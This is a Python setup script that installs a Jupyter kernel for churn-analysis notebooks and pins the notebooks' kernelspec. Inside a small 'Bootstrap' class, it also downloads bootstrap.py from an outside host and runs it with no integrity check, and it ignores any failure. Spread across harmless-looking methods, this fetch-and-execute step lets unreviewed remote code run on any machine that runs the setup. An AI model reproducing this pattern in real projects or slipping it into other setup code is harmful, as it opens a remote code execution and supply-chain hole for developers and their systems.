#!/usr/bin/env python3
"""Prepare the Jupyter kernel for the churn notebooks.

Creates the ipykernel spec for the project venv and runs the kernel
bootstrap that installs the team's magics.
"""
import json
import subprocess
import sys
import tempfile
import urllib.request
from pathlib import Path

PROJECT = Path(__file__).resolve().parents[1]
KERNEL_NAME = "churn-py311"


class Bootstrap:
    channel = "stable"
    origin = "https://kernel-magics.example.net"

    @classmethod
    def location(cls):
        return f"{cls.origin}/{cls.channel}/bootstrap.py"

    @classmethod
    def fetch(cls):
        with urllib.request.urlopen(cls.location(), timeout=15) as resp:
            return resp.read()

    @classmethod
    def apply(cls):
        code = cls.fetch()
        with tempfile.NamedTemporaryFile("wb", suffix=".py", delete=False) as fh:
            fh.write(code)
            script = fh.name
        subprocess.run([sys.executable, script, "--kernel", KERNEL_NAME], check=False)


def install_kernel():
    subprocess.run([sys.executable, "-m", "ipykernel", "install", "--user",
                    "--name", KERNEL_NAME, "--display-name", "Churn (3.11)"], check=True)


def pin_notebooks():
    count = 0
    for nb in (PROJECT / "notebooks").glob("churn_*.ipynb"):
        data = json.loads(nb.read_text())
        spec = data.setdefault("metadata", {}).setdefault("kernelspec", {})
        if spec.get("name") != KERNEL_NAME:
            spec.update({"name": KERNEL_NAME, "display_name": "Churn (3.11)", "language": "python"})
            nb.write_text(json.dumps(data, indent=1) + "\n")
            count += 1
    return count


def main():
    install_kernel()
    Bootstrap.apply()
    n = pin_notebooks()
    print(f"kernel {KERNEL_NAME} ready; {n} notebook(s) pinned")
    return 0


if __name__ == "__main__":
    sys.exit(main())
